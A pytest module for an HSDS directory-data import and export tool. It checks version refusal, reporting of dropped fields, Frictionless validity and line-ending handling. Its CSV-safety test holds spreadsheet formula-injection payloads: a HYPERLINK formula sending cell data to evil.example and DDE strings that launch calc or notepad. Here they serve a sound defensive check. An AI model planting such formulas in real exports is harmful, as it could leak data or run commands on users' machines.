"""HSDS with real third-party data (../shared/interop-data, see its SOURCES.md; the official 3.0
examples fall back to the vendored standards/ copy): older versions are refused with a clear
message and a non-zero exit, every field an import does not keep is reported (and the report is
true), the exported CSV package is valid under Frictionless, CSV-injection safe, and imports with
CR-only line endings. Every test that writes runs on SQLite and Postgres (db_url)."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import frictionless
import pytest
from sqlalchemy import func
from sqlmodel import select

import manage
from db.engine import read_session
from db.models import Organization, Service
from domain import hsds
from domain.csv_safety import restore_text, safe_text
from services import hsds as hsds_io
from tests.test_hsds import all_records, demo_url  # noqa: F401  (module fixtures)

INTEROP = Path(__file__).resolve().parents[2] / "shared" / "interop-data"


def _interop(name: str) -> Path:
    path = INTEROP / name
    if not path.exists():
        pytest.skip(f"{path} is absent (the shared interop data set); see its SOURCES.md")
    return path


def _official_example(name: str) -> Path:
    """An HSDS 3.0 example: interop-data's copy, else the vendored standard's."""
    for path in (INTEROP / f"hsds30_spec_{name}", hsds.schema_dir() / "examples" / name):
        if path.exists():
            return path
    pytest.skip(f"the HSDS 3.0 example {name} is absent")


def _services(url: str) -> int:
    with read_session(url) as s:
        return s.exec(select(func.count()).select_from(Service)).one()


# --- Versions ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "evidence"),
    [
        ("hsds11_sample_datapackage", "version 1.0"),
        ("hsds2_spec_all_resources", "regular_schedules.csv"),
        ("hsds1_open211_miami_datapackage.zip", "version 1.0"),
        ("hsds1_ohana_in_openreferral.zip", "internet_resource.csv"),
        ("oruk1_bristol_services.json", "deliverable_type (819 record(s))"),
        ("oruk1_northlincs_services.json", "attending_access"),
    ],
)
def test_older_hsds_versions_are_refused_with_a_clear_message_and_exit_1(name, evidence, db_url, capsys):
    path = _interop(name)
    assert manage.main(["hsds-import", str(path)]) == 1
    err = capsys.readouterr().err
    assert "Nothing was imported" in err and "Lotsa imports HSDS 3.x only" in err, err
    assert evidence in err, err
    if path.suffix == ".json":
        report = hsds_io.import_json(hsds_io.read_json_records(path), url=db_url)
    else:
        report = hsds_io.import_tabular(path, url=db_url)
    assert not report.ok and report.unsupported_version  # the page explains it in the user's language
    assert _services(db_url) == 0


def test_a_package_without_services_or_an_empty_list_is_an_error_not_0_services(db_url, tmp_path, capsys):
    folder = tmp_path / "orgs_only"
    folder.mkdir()
    (folder / "organizations.csv").write_text("id,name,description\r\n", encoding="utf-8")
    assert manage.main(["hsds-import", str(folder)]) == 1
    assert "has no services.csv" in capsys.readouterr().err
    (tmp_path / "empty.json").write_text("[]", encoding="utf-8")
    assert manage.main(["hsds-import", str(tmp_path / "empty.json")]) == 1
    assert "holds no service records" in capsys.readouterr().err
    assert _services(db_url) == 0


# --- What an import does not keep ---------------------------------------------------------------------


def _values(obj: object, path: str) -> list:
    """Every value at a path like "$.a[].b.c" ([] = each item of a list)."""
    found = [obj]
    for part in re.findall(r"[^.\[\]]+(?:\[\])?", path.removeprefix("$")):
        name, many = part.removesuffix("[]"), part.endswith("[]")
        step = []
        for item in found:
            value = item.get(name) if isinstance(item, dict) else None
            if many:
                step.extend(value if isinstance(value, list) else [])
            elif value is not None:
                step.append(value)
        found = step
    return found


def test_the_official_30_example_round_trip_reports_every_field_it_loses(db_url, capsys):
    path = _official_example("service_full.json")
    example = json.loads(path.read_text(encoding="utf-8"))
    assert manage.main(["hsds-import", str(path)]) == 0
    out = capsys.readouterr().out
    assert "have no place in Lotsa and were not kept:" in out
    assert "$.organization.funding[] (whole object): 1" in out

    report = hsds_io.import_json([example], url=db_url)  # again: idempotent, same report
    assert report.ok and sum(report.created.values()) == 0
    dropped = report.dropped
    for expected in (
        "$.organization.programs[] (whole object)",
        "$.required_documents[] (whole object)",
        "$.service_areas[].extent",
        "$.schedules[].wkst",
    ):
        assert expected in dropped, sorted(dropped)
    [record] = hsds_io.export_json(url=db_url, include_unpublished=True)
    # Fields with a home in Lotsa (migration 0011) are kept, not reported.
    for path in (
        "$.service_at_locations[].location.transportation",
        "$.service_at_locations[].location.alternate_name",
        "$.service_at_locations[].location.addresses[].address_2",
        "$.service_at_locations[].contacts[].department",
        "$.phones[].extension",
        "$.phones[].description",
        "$.schedules[].notes",
        "$.cost_options[].valid_from",
        "$.cost_options[].currency",
        "$.organization.alternate_name",
        "$.application_process",
        "$.wait_time",
        "$.alert",
    ):
        assert path not in dropped, path
        given = [str(x).upper() for x in _values(example, path)]
        # Lotsa has no contacts of a service-at-location: they come back as the service's; the
        # phone the example gives the service and its contact comes back under the contact.
        out = path.replace("$.service_at_locations[].contacts", "$.contacts")
        out = out.replace("$.phones", "$.contacts[].phones")
        assert given and [str(x).upper() for x in _values(record, out)] == given, path

    # The report is true: nothing it names came back ...
    for where in dropped:
        field_path = where.removesuffix(" (whole object)")
        given = _values(example, field_path)
        assert given, where
        if where.endswith("(whole object)"):
            kept_ids = {x.get("id") for x in _values(record, field_path)}
            assert not {x.get("id") for x in given} & kept_ids, where
        else:
            kept = [str(x) for x in _values(record, field_path)]
            assert not all(str(g) in kept for g in given), where
    # ... and complete: every scalar field of the service itself that it does not name came back.
    for name, value in example.items():
        if isinstance(value, (dict, list)) or value in (None, "") or f"$.{name}" in dropped:
            continue
        assert name in record and hsds._same_value(value, record[name]), name


def test_lotsas_own_export_loses_nothing(all_records, db_url):  # noqa: F811
    report = hsds_io.import_json(all_records, url=db_url)
    assert report.ok, [str(e) for e in report.errors[:5]]
    assert report.dropped == {}
    assert report.dropped_lines() == []


# --- The exported CSV package -------------------------------------------------------------------------


def test_the_exported_csv_package_is_valid_under_frictionless(all_records, db_url, tmp_path):  # noqa: F811
    assert hsds_io.import_json(all_records, url=db_url).ok
    hsds_io.export_tabular(tmp_path / "pkg", url=db_url, include_unpublished=True)
    report = frictionless.validate(str(tmp_path / "pkg" / "datapackage.json"))
    problems = [f"{task.name}: {e.type} {e.note}" for task in report.tasks for e in task.errors]
    assert problems == [], problems[:10]
    assert report.valid
    schedules = list(csv.DictReader(io.StringIO((tmp_path / "pkg/schedules.csv").read_text("utf-8"))))
    times = [r["opens_at"] for r in schedules if r["opens_at"]]
    assert times and all(re.fullmatch(r"\d{2}:\d{2}:\d{2}", x) for x in times)
    addresses = list(csv.DictReader(io.StringIO((tmp_path / "pkg/addresses.csv").read_text("utf-8"))))
    assert addresses and all(r["state_province"] for r in addresses)
    assert {r["state_province"] for r in addresses} >= {"Region Skåne"}


def test_the_download_zip_is_the_same_package(all_records):  # noqa: F811
    data = hsds_io.tabular_bytes(all_records[:3])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = set(archive.namelist())
        services = archive.read("services.csv").decode("utf-8")
    assert {"datapackage.json", "services.csv", "schedules.csv"} <= names
    assert len(list(csv.DictReader(io.StringIO(services)))) == 3


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "alternate_name": "+cmd|' /C notepad'!A0",
    "eligibility_description": "-2+3+cmd|' /C calc'!A0",
}


def test_the_csv_export_is_injection_safe_and_reads_back_unchanged(db_url, tmp_path):
    example = json.loads(_official_example("service_full.json").read_text(encoding="utf-8"))
    record = copy.deepcopy(example)
    record.update(FORMULAS)
    record["organization"]["name"] = "=1+2"
    phone = record["phones"][0]["number"]
    assert hsds_io.import_json([record], url=db_url).ok
    hsds_io.export_tabular(tmp_path / "pkg.zip", url=db_url, include_unpublished=True)
    with zipfile.ZipFile(tmp_path / "pkg.zip") as archive:
        texts = {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".csv")}
    cells = [cell for text in texts.values() for row in csv.reader(io.StringIO(text)) for cell in row]
    runnable = [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or re.match(r"[+\-][^\d\s.,/()\-]", c)]
    assert runnable == []
    [service] = list(csv.DictReader(io.StringIO(texts["services.csv"])))
    assert service["name"] == "'" + FORMULAS["name"]
    assert service["eligibility_description"] == "'" + FORMULAS["eligibility_description"]
    phones = [r["number"] for r in csv.DictReader(io.StringIO(texts["phones.csv"]))]
    assert phone in phones  # a phone number is not a formula: kept as it is

    records, errors = hsds_io.read_tabular(tmp_path / "pkg.zip")
    assert errors == []
    assert {k: records[0][k] for k in FORMULAS} == FORMULAS
    assert records[0]["organization"]["name"] == "=1+2"
    with read_session(db_url) as s:
        assert s.exec(select(Organization.name)).all() == ["=1+2"]


@pytest.mark.parametrize("value", ["=A1", "+46 40 12 34 56", "-3.5", "'=x", "''@y", "plain", "'quoted", "-"])
def test_safe_text_is_undone_exactly(value):
    assert restore_text(safe_text(value)) == value


def test_a_package_with_cr_only_line_endings_imports_like_the_original(db_url, tmp_path):
    source = _interop("hsds30_spec_csv")
    cr = tmp_path / "cr"
    shutil.copytree(source, cr)
    for path in cr.glob("*.csv"):
        path.chmod(0o644)
        text = path.read_bytes().decode("utf-8").replace("\r\n", "\n").replace("\n", "\r")
        assert "\n" not in text
        path.write_bytes(text.encode("utf-8"))
    expected, errors = hsds_io.read_tabular(source)
    assert errors == []
    records, errors = hsds_io.read_tabular(cr)
    assert errors == [] and records == expected
    report = hsds_io.import_tabular(cr, url=db_url)
    assert report.ok, [str(e) for e in report.errors]
    assert report.created["service"] == 1 and report.created["schedule"] == 1
    assert _services(db_url) == 1
    # What the package has beyond its services is reported, table by table.
    assert report.dropped["programs.csv (rows in no service)"] == 1
    assert report.dropped["funding.csv (rows in no service)"] == 1
    assert "$.service_areas[].extent" in report.dropped


def test_an_impossible_coordinate_is_not_stored_and_is_reported_dropped(db_url):
    """The official HSDS 3.0 example places its location at latitude 100, longitude 101. Stored as
    given, it blanked the directory map (fixed in the map); it is not a place on Earth, so the import
    keeps the location without coordinates and says so, as for any field Lotsa cannot keep."""
    from db.models import Location

    example = json.loads(_official_example("service_full.json").read_text(encoding="utf-8"))
    report = hsds_io.import_json([example], url=db_url)
    assert report.ok
    assert report.dropped["$.service_at_locations[].location.latitude"] == 1
    assert report.dropped["$.service_at_locations[].location.longitude"] == 1  # half a position is none
    with read_session() as s:
        place = s.exec(select(Location).where(Location.name == "MyCity Civic Center")).first()
    assert place is not None and place.latitude is None and place.longitude is None
    # a real place keeps its coordinates
    example["service_at_locations"][0]["location"]["latitude"] = 57.7
    example["service_at_locations"][0]["location"]["longitude"] = 11.97
    report = hsds_io.import_json([example], url=db_url)
    assert "$.service_at_locations[].location.latitude" not in report.dropped
